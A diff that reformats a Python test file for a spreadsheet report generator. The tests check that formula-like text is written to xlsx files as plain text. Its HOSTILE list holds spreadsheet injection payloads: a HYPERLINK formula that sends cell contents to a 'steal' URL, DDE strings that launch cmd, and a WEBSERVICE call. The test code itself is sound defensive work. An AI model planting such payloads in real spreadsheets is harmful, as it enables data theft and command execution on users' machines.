@@ -16,8 +16,16 @@ from reportgen.input.xlsx import FORMULA_PREFIXES, SheetOut, workbook_bytes
 from tests.hostile_corpus import valid_sheets
 
 HOSTILE = [
-    '=HYPERLINK("http://127.0.0.1/steal?"&A1,"اضغط هنا")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'", '=WEBSERVICE("http://127.0.0.1/")', "=تجمع",
+    '=HYPERLINK("http://127.0.0.1/steal?"&A1,"اضغط هنا")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C notepad'!'A1'",
+    '=WEBSERVICE("http://127.0.0.1/")',
+    "=تجمع",
 ]
 _NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 
@@ -63,14 +71,16 @@ STAMP = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
 
 def test_workbook_bytes_stores_formula_like_text_as_text(tmp_path):
     path = tmp_path / "out.xlsx"
-    path.write_bytes(workbook_bytes([SheetOut("sheet", ["=header", "+header", "plain"], [[v, v, 1] for v in HOSTILE])],
-                                    STAMP))
+    path.write_bytes(
+        workbook_bytes([SheetOut("sheet", ["=header", "+header", "plain"], [[v, v, 1] for v in HOSTILE])], STAMP)
+    )
     assert_no_formula(path, HOSTILE + ["=header", "+header"])
 
 
 def test_starter_workbook_has_no_formula_cells(tmp_path):
-    r = subprocess.run([sys.executable, "-m", "reportgen", "init", str(tmp_path / "p")], capture_output=True,
-                       text=True, timeout=120)
+    r = subprocess.run(
+        [sys.executable, "-m", "reportgen", "init", str(tmp_path / "p")], capture_output=True, text=True, timeout=120
+    )
     assert r.returncode == 0, r.stderr
     assert_no_formula(tmp_path / "p" / "workbook.xlsx")
 
@@ -82,7 +92,12 @@ def test_dossier_register_stores_formula_like_text_as_text(tmp_path):
     sheets["certifications"][1][1] = HOSTILE[4]  # its brand
     workbook = tmp_path / "wb.xlsx"  # written with text kept as text, as a careful user's would be
     workbook.write_bytes(workbook_bytes([SheetOut(title, rows[0], rows[1:]) for title, rows in sheets.items()], STAMP))
-    r = subprocess.run([sys.executable, "-m", "reportgen", "dossiers", str(workbook), "-o", str(tmp_path / "d"),
-                        "--jobs", "1"], capture_output=True, text=True, timeout=300, cwd=tmp_path)
+    r = subprocess.run(
+        [sys.executable, "-m", "reportgen", "dossiers", str(workbook), "-o", str(tmp_path / "d"), "--jobs", "1"],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        cwd=tmp_path,
+    )
     assert r.returncode == 0, r.stderr
     assert_no_formula(tmp_path / "d" / "register.xlsx", [HOSTILE[0], HOSTILE[4]])
